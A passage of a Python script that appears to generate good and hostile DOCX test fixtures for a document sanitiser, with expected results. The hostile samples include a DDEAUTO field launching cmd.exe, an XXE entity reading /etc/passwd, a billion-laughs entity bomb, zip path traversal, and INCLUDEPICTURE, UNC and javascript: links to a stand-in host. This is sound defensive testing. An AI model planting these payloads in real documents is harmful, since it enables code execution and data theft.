        good["everything." + ext] = good_everything(ext).bytes()
    good["strict.docx"] = good_everything().strict().bytes()
    good["vertical.docx"] = good_vertical().bytes()
    good["plain.docx"] = good_plain().bytes()
    good["stored.docx"] = good_plain().bytes(zipfile.ZIP_STORED)
    good["grouped.docx"] = good_grouped().bytes()
    good["odd.docx"] = good_dotted().bytes()
    utf16 = good_plain("十六ビットの文書")
    utf16.parts["word/document.xml"] = ("\ufeff" + utf16.parts["word/document.xml"].decode().replace("UTF-8", "UTF-16")).encode("utf-16-le")
    good["utf16.docx"] = utf16.bytes()
    # Disarmed: OK, and the report names what went.
    ok = {
        "macro.docm": macro().bytes(), "macro-lying.docx": macro("docx").bytes(), "ole.docx": ole().bytes(),
        "ole-link.docx": ole_link().bytes(), "activex.docx": activex().bytes(), "external-image.docx": external_image().bytes(),
        "metadata.docx": metadata(), "quine.docx": quine(),
        "gap.docx": gap(good_plain().bytes(), canary("gap").encode()),
        "tail.docx": good_plain().bytes() + canary("suffix").encode() * 3,
        "head.docx": canary("prefix").encode() + good_plain().bytes(),
        "dde.docx": with_body(p(field("", r("動的結果"), [" D", "DEA", "UTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k %s" ' % canary("dde")])), p(r("後"))).bytes(),
        "dde-quote.docx": with_body(p(field("", r("QUOTEの結果"), [" QUOTE 68 68 69 32 ", canary("quote"), " "])), p(r("後"))).bytes(),
        "dde-simple.docx": with_body(p('<w:fldSimple w:instr=" DDE excel &quot;%s&quot; ">%s</w:fldSimple>' % (canary("ddesimple"), r("簡易な結果")))).bytes(),
        "dde-nested.docx": with_body(p('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1=1 </w:instrText></w:r>',
                                       field(" DDEAUTO x %s " % canary("ddenested"), r("内")), '<w:r><w:fldChar w:fldCharType="separate"/></w:r>',
                                       r("外の結果"), '<w:r><w:fldChar w:fldCharType="end"/></w:r>')).bytes(),
        "dde-open.docx": with_body(p('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO x %s </w:instrText></w:r>' % canary("ddeopen"), r("閉じないフィールド"))).bytes(),
        "includepicture.docx": with_body(p(field(' INCLUDEPICTURE "http://203.0.113.9/%s.png" \\d ' % canary("incpic"), r("図の結果")))).bytes(),
        "includetext.docx": with_body(p(field(' INCLUDETEXT "\\\\\\\\203.0.113.9\\\\%s" ' % canary("inctext"), r("文の結果")))).bytes(),
        "hyperlink-field.docx": with_body(p(field(' HYPERLINK "javascript:%s" ' % canary("jslink"), r("悪いリンク")),
                                            field(' HYPERLINK "https://example.jp/ok" \\o "説明" ', r("良いリンク")),
                                            field(' HYPERLINK \\l "mark" ', r("中のリンク")), '<w:bookmarkStart w:id="1" w:name="mark"/><w:bookmarkEnd w:id="1"/>')).bytes(),
        "altchunk.docx": Doc().part("word/chunk.html", b"<html>" + canary("altchunk").encode(), "text/html", "aFChunk", "rIdA").body(
            '<w:altChunk r:id="rIdA"/>', p(r("差し込みの後"))).bytes(),
        "deep-fields.docx": with_body(deep_fields(40), p(r("後"))).bytes(),
        "many-fields.docx": with_body(p('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 2000, r("開きだけ")), p('<w:r><w:fldChar w:fldCharType="end"/></w:r>' * 3000)).bytes(),
    }
    links = ["file:///c:/windows/%s", "\\\\203.0.113.9\\%s", "ms-word:ofe|u|http://x/%s", "http://user:pw@203.0.113.9/%s", "javascript:%s",
             "mhtml:http://203.0.113.9!x-usc:http://%s", "http://exa mple.jp\\@%s", "http:///%s", "https://ex%%61mple.jp/%s",
             "http://example.jp:99999999/%s", "http://xn--\u202e.jp/%s", "search-ms:query=%s"]
    d = Doc()
    for i, link in enumerate(links):
        d.rel("word/document.xml", "rL%d" % i, REL + "hyperlink", link % canary("link%d" % i), True)
    d.rel("word/document.xml", "rLX", REL + "hyperlink", "mailto:kansa@example.lg.jp?subject=%E9%96%A2%E6%89%80", True)
    ok["links.docx"] = d.body(*(p('<w:hyperlink r:id="rL%d">%s</w:hyperlink>' % (i, r("リンク%d" % i))) for i in range(len(links))),
                              p('<w:hyperlink r:id="rLX">%s</w:hyperlink>' % r("メール"))).bytes()
    refused = {
        "xxe.docx": (xxe('<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>').bytes(), "E_BROKEN"),
        "billion-laughs.docx": (xxe(BILLION, "&j;").bytes(), "E_BROKEN"),
        "entity.docx": (xxe("").bytes(), "E_BROKEN"),
        "overlap.docx": (overlap(), "E_BROKEN"),
        "ratio.docx": (ratio_bomb(), "E_LIMIT_RATIO E_BROKEN E_LIMIT_SIZE"),
        "duplicate.docx": (duplicate("word/a.xml", "word/a.xml"), "E_BROKEN"),
        "duplicate-case.docx": (duplicate("word/a.xml", "WORD/A.xml"), "E_BROKEN"),
        "traversal.docx": (duplicate("../../evil.xml", "b"), "E_BROKEN"),
        "backslash.docx": (duplicate("word\\evil.xml", "b"), "E_BROKEN"),
        "deep.docx": (with_body(nested(400, '<w:sdt><w:sdtContent>', '</w:sdtContent></w:sdt>', p(r("x")))).bytes(), "E_LIMIT_DEPTH"),
        "encrypted.docx": (ole_file("EncryptionInfo", "EncryptedPackage"), "E_ENCRYPTED"),
        "old-doc.docx": (ole_file("WordDocument", "1Table"), "E_TYPE_MISMATCH"),
        "zip-only.docx": (zip_only(), "E_TYPE_MISMATCH"),
        "workbook.docx": (workbook(), "E_TYPE_MISMATCH"),
        "text.docx": ("ただの文章".encode(), "E_TYPE_MISMATCH E_BROKEN"),
        "no-body.docx": (Doc().part("word/document.xml", "<w:document %s/>" % XMLNS).bytes(), "OK E_BROKEN"),
        "wrong-root.docx": (Doc().part("word/document.xml", "<w:styles %s/>" % XMLNS).bytes(), "E_BROKEN"),
        "truncated.docx": (good_plain().bytes()[:-300], "E_BROKEN"),
    }
    with_crc = bytearray(good_plain().bytes())
    at = with_crc.index(b"word/document.xml") + 60
    with_crc[at] ^= 0x20
    refused["bitflip.docx"] = (bytes(with_crc), "E_BROKEN")
    bad.update({n: (d, "OK") for n, d in ok.items()})
    bad.update(refused)
    return good, bad


def zip_only():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("a.txt", "text")
    return out.getvalue()


def workbook():
    d = Doc()
    d.rels[""] = []
    d.rel("", "rId1", REL + "officeDocument", "xl/workbook.xml")
    d.part("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
           "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    d.rels["word/document.xml"] = []
    return d.bytes()


def main():
    folder = sys.argv[1]
    warnings.filterwarnings("ignore", "Duplicate name")  # two of the hostile files are just that
    good, bad = samples()
    want = [("good/" + n, "OK", d) for n, d in good.items()] + [("bad/" + n, w, d) for n, (d, w) in bad.items()]
    for sub in ("good", "bad"):
        os.makedirs(os.path.join(folder, sub), exist_ok=True)
    for name, _, data in want:
        with open(os.path.join(folder, name), "wb") as f:
            f.write(data)
    with open(os.path.join(folder, "want.txt"), "w", encoding="utf-8") as f:
        f.writelines("%s %s\n" % (n, w) for n, w, _ in want)
    with open(os.path.join(folder, "canaries.txt"), "w", encoding="utf-8") as f:
        f.writelines(c + "\n" for c in canaries)
    if len(sys.argv) > 2:
        open(sys.argv[2], "w", encoding="ascii").close()


if __name__ == "__main__":
    main()
